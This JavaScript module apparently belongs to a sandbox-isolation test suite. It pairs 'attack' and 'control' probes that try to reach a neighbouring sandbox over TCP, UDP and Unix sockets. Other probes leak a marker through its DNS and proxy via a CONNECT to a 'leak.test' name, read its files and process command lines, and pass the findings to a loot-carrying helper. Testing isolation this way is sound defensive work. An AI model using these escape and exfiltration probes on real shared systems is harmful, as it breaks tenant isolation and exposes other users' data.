/** Attempts to reach the bottle beside this one. Their controls are made there: it reaches itself, and hears it. */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { carryLoot, ofAllProcesses } from './loot.mjs';
import { all, datagram, interfaces, open, question, send, sendTo } from './wire.mjs';

const DNS_PORT = 53;

/** A link-local address means something on an interface only. */
const hosts = ({ sibling }) =>
  sibling.addresses.flatMap((address) =>
    address.startsWith('fe80:')
      ? [...new Set(interfaces().map(({ name }) => `${address}%${name}`))]
      : [address],
  );

const same = (make) => ({ attack: make, control: make });

const byUdp = (t, nonce) =>
  all(
    hosts(t).map((address) =>
      datagram(address.includes(':') ? 'udp6' : 'udp4', { address, port: t.sibling.port }, nonce),
    ),
  );

/** By its proxy and its DNS, a name that its log will have whatever it answers. */
async function byItsGateway({ sibling }, nonce) {
  const { hostname, port } = new URL(sibling.proxy);
  const name = `${nonce}.leak.test`;
  await all([
    datagram('udp4', { address: hostname, port: DNS_PORT }, question(name)),
    open({ host: hostname, port }).then(
      async (socket) => await send(socket, `CONNECT ${name}:443 HTTP/1.1\r\nHost: ${name}:443\r\n\r\n`),
    ),
  ]);
}

/** Those of its places that can be read. */
const itsFiles = ({ sibling }) =>
  sibling.places
    .map((place) => {
      try {
        return readFileSync(join(place, sibling.name), 'utf8');
      } catch {
        return '';
      }
    })
    .join('\n');

const itsProcesses = () =>
  ofAllProcesses('cmdline')
    .split('\n')
    .filter((line) => line.includes('sibling.mjs'))
    .join('\n');

const finding = (read) => ({
  attack: async (t) => await carryLoot(t, read(t)),
  control: async (t, nonce) => {
    if (!/bbl[0-9a-f]{24}/.test(read(t))) throw new Error('it does not find its own');
    await sendTo({ host: '127.0.0.1', port: t.sibling.port }, nonce);
  },
});

export const SIBLINGS = {
  'sibling-tcp': same((t, nonce) =>
    all(hosts(t).map((host) => sendTo({ host, port: t.sibling.port }, nonce))),
  ),
  'sibling-udp': same(byUdp),
  'sibling-unix': same(({ sibling: { name } }, nonce) =>
    all([`\0${name}`, join('/tmp', `${name}.sock`)].map((path) => sendTo({ path }, nonce))),
  ),
  'sibling-gateway': same(byItsGateway),
  'sibling-files': finding(itsFiles),
  'sibling-processes': finding(itsProcesses),
};
